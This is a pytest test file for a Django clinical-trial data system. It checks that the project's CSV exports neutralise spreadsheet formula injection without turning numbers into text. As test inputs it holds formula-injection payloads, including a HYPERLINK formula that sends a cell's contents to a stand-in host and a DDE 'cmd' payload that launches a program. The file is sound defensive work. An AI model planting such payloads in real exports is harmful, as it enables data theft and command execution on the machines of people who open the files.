"""Spreadsheet formula injection (docs/BLINDING.md "CSV cells"): every CSV the project writes neutralises
text cells starting with = + - @ tab or CR, and never turns a number into text. One rule
(edc.csv_cells), also as SQL for a COPY-based writer; checked here with each prefix in each CSV."""
import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from edc import roles
from edc.csv_cells import TRIGGERS, safe_cell, safe_row, sql_safe_text
from exports.datasets import ae_dataset
from exports.spec import Column, Dataset
from exports.writers_csv import write_codebook, write_csv
from safety.services.adverse_events import record_ae
from tests import factories
from tests.safety.helpers import ae_values

PAYLOADS = {
    "=": '=HYPERLINK("http://x/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(A1:A9)",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
NUMBERS_AS_TEXT = ["-1.5", "+3", "-2e-3", ".5", "-0", "12"]
# Text that starts with a character between "+" and "@" (digits, ".", "/", ":", "<", "?"): plain text, which a
# bracket written "[=+-@]" would wrongly take for a trigger.
PLAIN = ["Lung infection", "a=b", "x-1", "", "肺部感染", "6 tablets", "1/2 tab", "3:00 pm", "<5", "?unknown", ".5 mg"]


def test_every_trigger_has_a_payload():
    assert set(PAYLOADS) == set(TRIGGERS)


@pytest.mark.parametrize("prefix", sorted(PAYLOADS))
def test_a_text_cell_with_each_prefix_is_neutralised(prefix):
    assert safe_cell(PAYLOADS[prefix]) == "'" + PAYLOADS[prefix]


@pytest.mark.parametrize("value", [*NUMBERS_AS_TEXT, *PLAIN, -1.5, 3, Decimal("-2.25"), None, True])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value if value == value else safe_cell(value) is value
    assert safe_row([value]) == [value]


@pytest.mark.django_db
@pytest.mark.parametrize("value", [*PAYLOADS.values(), *NUMBERS_AS_TEXT, *PLAIN, "-", "+", "=", "'=x"])
def test_the_sql_form_is_the_same_rule(value):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {sql_safe_text('v.x')} FROM (VALUES (%s::text)) AS v(x)", [value])
        assert cursor.fetchone()[0] == safe_cell(value)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_dataset_csv_writer_neutralises_text_but_not_numbers():
    cols = [Column("term", "Term", "术语", "string"), Column("dose", "Dose", "剂量", "number")]
    values = [(payload, -1.5) for payload in PAYLOADS.values()] + [("-1.5", Decimal("-2.5"))]
    out = io.StringIO(newline="")
    write_csv(Dataset("t", "T", "T", cols, lambda: iter(values)), out)
    body = rows_of(out.getvalue())[1:]
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS.values()] + ["-1.5"]
    assert [r[1] for r in body] == ["-1.5"] * len(PAYLOADS) + ["-2.5"]


def test_the_codebook_neutralises_its_text_cells():
    cols = [Column("term", "=cmd", "@x", "string", unit="-u")]
    out = io.StringIO(newline="")
    write_codebook([Dataset("t", "T", "T", cols, lambda: iter(()))], out)
    assert rows_of(out.getvalue())[1][2:6] == ["'=cmd", "'@x", "string", "'-u"]


@pytest.fixture
def world(db, site, clinician):
    factories.strata_and_list()
    p = factories.randomized_participant(site, clinician)
    for payload in PAYLOADS.values():
        record_ae(p, user=clinician, **ae_values(term=payload, grade=1, onset_date=timezone.localdate()
                                                 - timedelta(days=1)))
    return p


def _terms_in(rows: list[list[str]], column: str) -> set[str]:
    at = rows[0].index(column)
    return {r[at] for r in rows[1:]}


@pytest.mark.django_db
def test_the_ae_dataset_csv_api_csv_and_audit_trail_csv_neutralise_each_prefix(world, site, client_for):
    expected = {"'" + p for p in PAYLOADS.values()}
    out = io.StringIO(newline="")
    write_csv(ae_dataset(), out)
    dataset_rows = rows_of(out.getvalue())
    assert _terms_in(dataset_rows, "term") == expected
    assert _terms_in(dataset_rows, "grade") == {"1"}  # numbers stay numbers

    from tests.edc.test_access_log import _new_token
    key = _new_token(factories.make_user(roles.STATISTICIAN, site))
    response = Client().get(reverse("api_dataset", args=["adverse_events"]), HTTP_AUTHORIZATION=f"Token {key}")
    api_rows = rows_of(b"".join(response.streaming_content).decode())
    assert _terms_in(api_rows, "term") == expected and _terms_in(api_rows, "grade") == {"1"}

    monitor = client_for(factories.make_user(roles.MONITOR, site))
    audit_rows = rows_of(monitor.get(reverse("participant_audit_csv", args=[world.pk])).content.decode())
    new_values = {r[6] for r in audit_rows[1:]}
    assert expected <= new_values
    assert not any(cell.startswith(TRIGGERS) for row in audit_rows[1:] for cell in row
                   if cell not in NUMBERS_AS_TEXT)


@pytest.mark.django_db
def test_the_allocation_list_download_goes_through_the_same_rule(site, client_for):
    factories.strata_and_list()
    admin = factories.make_user(roles.RANDOMIZATION_ADMIN, site)
    text = client_for(admin).get(reverse("allocation_download")).content.decode()
    assert not any(cell.startswith(TRIGGERS) for row in rows_of(text) for cell in row)
